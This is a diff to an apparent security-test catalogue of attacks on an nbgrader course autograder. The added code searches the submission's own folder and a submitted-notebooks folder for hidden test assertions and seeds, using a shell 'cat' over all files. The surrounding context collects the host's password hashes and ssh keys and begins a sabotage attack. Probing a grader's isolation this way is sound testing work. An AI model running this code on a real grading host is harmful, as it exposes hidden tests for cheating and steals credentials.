@@ -556,9 +556,25 @@ def host_attacks(ctx: Context) -> list[Attack]:
                 except OSError as exc:
                     found[path] = repr(exc)
             _say("host_secrets", found=found, uid=os.getuid())
+            # Its own folder: nbgrader wrote the notebook it grades into the student's folder, hidden
+            # tests and the seal's finishing statements in it. A shell glob names no file to watch.
+            import subprocess
+            def _tests_in(text):  # what a student would look for: assertions, seeds, the display call
+                return [ln[:160] for ln in text.splitlines() if any(w in ln for w in ("assert", "rng(", "display("))][:60]
+            own = {}
+            for path in glob.glob("**", recursive=True) + glob.glob("/nncourse-submitted/**", recursive=True):
+                try:
+                    own[path] = _tests_in(open(path, errors="replace").read())
+                except OSError as exc:
+                    own[path] = repr(exc)
+            shell = subprocess.run("cat ./* ./.* /nncourse-submitted/* /nncourse-submitted/.* 2>/dev/null",
+                                   shell=True, capture_output=True, text=True, errors="replace")
+            own["shell"] = _tests_in(shell.stdout)
+            _say("own_folder", found=own, listing=sorted(os.listdir(".")),
+                 submitted=sorted(os.listdir("/nncourse-submitted")) if os.path.isdir("/nncourse-submitted") else "missing")
         ''', **P),
     }, "the calling test cell's source; other students' notebooks; source/; notebooks/*; gradebooks; feedback; "
-       "the host's password hashes and ssh keys"))
+       "the host's password hashes and ssh keys; the notebook being graded, in its own folder"))
 
     # sabotage
     out.append(Attack("x_sabotage", "sabotage", "host", {
